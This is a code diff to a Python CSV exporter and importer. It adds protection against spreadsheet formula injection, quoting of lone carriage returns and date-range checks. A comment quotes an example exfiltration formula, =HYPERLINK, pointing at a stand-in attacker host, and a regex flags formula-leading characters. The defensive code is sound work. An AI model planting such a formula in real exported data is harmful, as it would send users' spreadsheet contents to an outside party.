@@ -305,7 +305,7 @@ def _csv_records(text: IO[str]) -> Iterator[Record]:
         elif len(row) != len(header):
             yield start, None, f"expected {len(header)} columns, got {len(row)}"
         else:
-            yield start, dict(zip(header, row, strict=True)), None
+            yield start, dict(zip(header, [unguard_cell(c) for c in row], strict=True)), None
 
 
 def _has_surrogate(value: str) -> bool:
@@ -532,21 +532,59 @@ def _writer(out: IO[str], fmt: str) -> Callable[[dict[str, Any]], None]:
 
         return write_jsonl
 
-    writer = csv.DictWriter(out, fieldnames=FIELDS, lineterminator="\n")
+    # Rows end in "\n", but a cell holding a lone "\r" must be quoted too (the csv module
+    # quotes only the characters of its line terminator): each row is written with "\r\n"
+    # and its terminator swapped.
+    buffer = io.StringIO()
+    writer = csv.DictWriter(buffer, fieldnames=FIELDS, lineterminator="\r\n")
+
+    def emit() -> None:
+        out.write(buffer.getvalue()[:-2] + "\n")
+        buffer.seek(0)
+        buffer.truncate()
+
     writer.writeheader()
+    emit()
 
     def write_csv(record: dict[str, Any]) -> None:
-        row = {k: ("" if v is None else v) for k, v in record.items()}
-        row["streams"] = ";".join(record["streams"])
+        row = {
+            k: ("" if v is None else guard_cell(v) if isinstance(v, str) else v) for k, v in record.items()
+        }
+        row["streams"] = guard_cell(";".join(record["streams"]))
         writer.writerow(row)
+        emit()
 
     return write_csv
+
+
+# A spreadsheet runs a cell that begins with one of these as a formula (OWASP "CSV
+# injection"): `=HYPERLINK("https://evil.example?"&A1, "click")` in a mention's text would
+# send the sheet's data away. Such cells are written with a leading apostrophe, which
+# spreadsheets show as text; the importer takes one apostrophe off again, so an
+# export imports as it was (a cell that already began with apostrophes gets one more).
+_FORMULA = re.compile(r"^'*[=+\-@\t\r]")
+
+
+def guard_cell(value: str) -> str:
+    """A CSV cell a spreadsheet shows as text, never runs."""
+    return "'" + value if _FORMULA.match(value) else value
+
+
+def unguard_cell(value: str) -> str:
+    """The cell as it was before `guard_cell`."""
+    return value[1:] if value.startswith("'") and _FORMULA.match(value) else value
+
+
+FIRST_DAY, LAST_DAY = date(1970, 1, 1), date(9000, 12, 31)  # days whose neighbours exist in every zone
 
 
 def parse_export_day(value: str | None, option: str) -> date | None:
     if value is None:
         return None
     try:
-        return date.fromisoformat(value)
+        day = date.fromisoformat(value)
     except ValueError:
         raise UserError(f"{option}: expected a day like 2026-09-01, got {value!r}") from None
+    if not FIRST_DAY <= day <= LAST_DAY:
+        raise UserError(f"{option}: expected a day from {FIRST_DAY} to {LAST_DAY}, got {value}")
+    return day
